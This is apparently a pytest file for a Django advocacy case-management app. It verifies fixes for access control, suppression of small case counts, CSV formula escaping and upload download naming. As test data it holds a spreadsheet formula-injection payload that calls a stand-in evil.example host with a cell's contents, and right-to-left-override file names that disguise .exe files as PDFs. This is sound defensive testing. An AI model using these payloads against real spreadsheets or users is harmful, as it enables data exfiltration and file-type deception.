"""Smaller holes found by the attack on a production-like instance: the
shared Jobcenter directory, counts of other teams' cases, CSV formulas,
download names, direction-control characters."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from advocacy.csvexport import cell
from cases.models import Evidence
from tests.cases.hostile_pdfs import base_pdf
from tests.factories import CaseFactory, IncidentFactory, JobcenterFactory

pytestmark = pytest.mark.django_db


def test_caseworkers_cannot_change_the_shared_jobcenter_directory(cw_client):
    jobcenter = JobcenterFactory(name="Jobcenter Berlin Mitte")
    edit = reverse("cases:jobcenter_edit", args=[jobcenter.pk])
    assert cw_client.get(edit).status_code == 403
    response = cw_client.post(
        edit, {"name": "Umgeleitet", "kind": "gE", "city": "X", "state": "BE"}
    )
    assert response.status_code == 403
    assert cw_client.get(reverse("cases:jobcenter_create")).status_code == 403
    jobcenter.refresh_from_db()
    assert jobcenter.name == "Jobcenter Berlin Mitte"
    detail = cw_client.get(reverse("cases:jobcenter_detail", args=[jobcenter.pk])).text
    assert edit not in detail


def test_a_coordinators_change_to_a_jobcenter_is_kept_in_its_history(coord_client, coordinator):
    jobcenter = JobcenterFactory(name="Jobcenter Berlin Mitte", street="Alte Straße 1")
    response = coord_client.post(
        reverse("cases:jobcenter_edit", args=[jobcenter.pk]),
        {
            "name": "Jobcenter Berlin Mitte",
            "kind": "gE",
            "street": "Neue Straße 2",
            "postcode": "10115",
            "city": "Berlin",
            "state": "BE",
            "is_active": "on",
        },
    )
    assert response.status_code == 302
    page = coord_client.get(reverse("cases:jobcenter_detail", args=[jobcenter.pk])).text
    assert "„Alte Straße 1“ → „Neue Straße 2“" in page
    assert coordinator.username in page


def test_a_coordinators_change_to_a_shared_authority_is_logged_with_its_author(
    coord_client, coordinator
):
    from auditlog.models import LogEntry

    from cases.models import Authority
    from tests.factories import AuthorityFactory

    court = AuthorityFactory(kind=Authority.Kind.SOCIAL_COURT, name="SG X", district_keys="16051")
    coord_client.post(
        reverse("cases:authority_add") + "?kind=sg",
        {"kind": "sg", "existing": court.pk, "district_key": "16053"},
    )
    entry = LogEntry.objects.get_for_object(court).get(action=LogEntry.Action.UPDATE)
    assert entry.actor == coordinator
    assert entry.changes_dict["district_keys"] == ["16051", "16051 16053"]


def test_other_teams_small_case_counts_are_suppressed_in_the_jobcenter_list(
    cw_client, team, other_team
):
    jobcenter = JobcenterFactory(name="Jobcenter Kleinstadt")
    CaseFactory(team=team, jobcenter=jobcenter)
    CaseFactory.create_batch(2, team=other_team, jobcenter=jobcenter)
    busy = JobcenterFactory(name="Jobcenter Großstadt")
    CaseFactory.create_batch(6, team=other_team, jobcenter=busy)
    page = cw_client.get(reverse("cases:jobcenter_list")).text
    small_row = page[page.index("Jobcenter Kleinstadt") :].split("</tr>")[0]
    assert "<td>1</td><td>&lt;5</td>" in small_row  # own case exact, all teams suppressed
    busy_row = page[page.index("Jobcenter Großstadt") :].split("</tr>")[0]
    assert "<td>0</td><td>6</td>" in busy_row
    # Four cases of the team and one of another: no total from which the
    # other team's one case could be worked out.
    mixed = JobcenterFactory(name="Jobcenter Mittelstadt")
    CaseFactory.create_batch(4, team=team, jobcenter=mixed)
    CaseFactory(team=other_team, jobcenter=mixed)
    page = cw_client.get(reverse("cases:jobcenter_list")).text
    mixed_row = page[page.index("Jobcenter Mittelstadt") :].split("</tr>")[0]
    assert "<td>4</td><td>&lt;5</td>" in mixed_row
    assert "<td>5</td>" not in mixed_row


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1;"klick")', "'=HYPERLINK"),
        ("+49 30 123", "'+49"),
        ("-2+3", "'-2"),
        ("@SUM(A1)", "'@SUM"),
        ("\t=1+1", "'\t=1"),
        ("Jobcenter Köln", "Jobcenter Köln"),
        ("<5", "<5"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(value, expected):
    assert str(cell(value)).startswith(expected)


def test_the_statistics_csv_escapes_a_formula_in_a_jobcenter_name(coord_client, team):
    jobcenter = JobcenterFactory(name='=HYPERLINK("http://evil.example";"x")')
    IncidentFactory.create_batch(5, case=CaseFactory(team=team, jobcenter=jobcenter))
    response = coord_client.get(reverse("cases:statistics"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[1] for row in rows if row[0] == "Vorfälle je Jobcenter"]
    assert names == ["'" + jobcenter.name]


def test_downloads_are_named_after_the_detected_type_not_the_upload_name(cw_client, team):
    case = CaseFactory(team=team)
    pdf = io.BytesIO()
    base_pdf().save(pdf)
    cw_client.post(
        reverse("cases:evidence_upload", args=[case.reference]),
        {"file": SimpleUploadedFile("Bescheid.exe", pdf.getvalue()), "title": "Bescheid"},
    )
    evidence = Evidence.objects.get()
    for name in ("cases:evidence_download", "cases:evidence_original"):
        response = cw_client.get(reverse(name, args=[case.reference, evidence.pk]))
        disposition = response["Content-Disposition"]
        assert ".pdf" in disposition and ".exe" not in disposition, disposition


@pytest.mark.parametrize(
    ("uploaded", "offered"),
    [
        ("Rechnung\u202efdp.exe", "Rechnung[RLO]fdp.pdf"),
        ("Bescheid\x07\u200b.exe", "Bescheid.pdf"),
        ("\u202e.exe", "[RLO].pdf"),
        ("...", "datei.pdf"),
    ],
)
def test_a_download_name_shows_direction_controls_and_drops_other_controls(uploaded, offered):
    from cases.uploads import download_name

    assert download_name(uploaded, "application/pdf") == offered


def test_direction_controls_in_staff_views_are_shown_not_obeyed(cw_client, team):
    case = CaseFactory(team=team, title="Rechnung\u202efdp.exe")
    page = cw_client.get(reverse("cases:case_detail", args=[case.reference])).text
    assert "\u202e" not in page
    assert "Rechnung[RLO]fdp.exe" in page
